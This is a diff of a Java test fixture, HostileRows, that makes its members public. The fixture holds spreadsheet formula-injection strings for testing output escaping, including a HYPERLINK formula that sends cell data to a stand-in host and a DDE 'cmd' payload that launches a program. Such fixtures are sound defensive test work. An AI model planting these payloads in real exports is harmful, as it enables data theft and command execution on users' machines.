@@ -10,12 +10,12 @@ import whorl.evidence.Id;
 import whorl.evidence.Json;
 
 /** Rows with hostile content, and ordinary ones. */
-final class HostileRows {
-  static final Id EVIDENCE = new Id("evidence-0001");
-  static final Instant TIME = Instant.parse("2026-11-25T09:35:28.391825818Z");
+public final class HostileRows {
+  public static final Id EVIDENCE = new Id("evidence-0001");
+  public static final Instant TIME = Instant.parse("2026-11-25T09:35:28.391825818Z");
 
   /** Each of these breaks some reader that does not escape it. */
-  static final List<String> TEXTS =
+  public static final List<String> TEXTS =
       List.of(
           "=HYPERLINK(\"http://evil.example/?\"&A1)",
           "+1+cmd|' /C calc'!A0",
@@ -39,7 +39,7 @@ final class HostileRows {
 
   private HostileRows() {}
 
-  static Row row(long number, Instant time, String action, Map<Column, Object> values) {
+  public static Row row(long number, Instant time, String action, Map<Column, Object> values) {
     EnumMap<Column, Object> all = new EnumMap<>(Column.class);
     long nanos = time.getEpochSecond() * 1_000_000_000L + time.getNano();
     all.put(Column.TIME, nanos);
@@ -51,12 +51,12 @@ final class HostileRows {
     return Row.of(all);
   }
 
-  static Row row(String action, Map<Column, Object> values) {
+  public static Row row(String action, Map<Column, Object> values) {
     return row(0, TIME, action, values);
   }
 
   /** A row with this text in every text column. */
-  static Row everywhere(long number, String action, String text) {
+  public static Row everywhere(long number, String action, String text) {
     EnumMap<Column, Object> values = new EnumMap<>(Column.class);
     for (Column column : Column.values()) {
       if (column.kind() == Column.Kind.TEXT) {
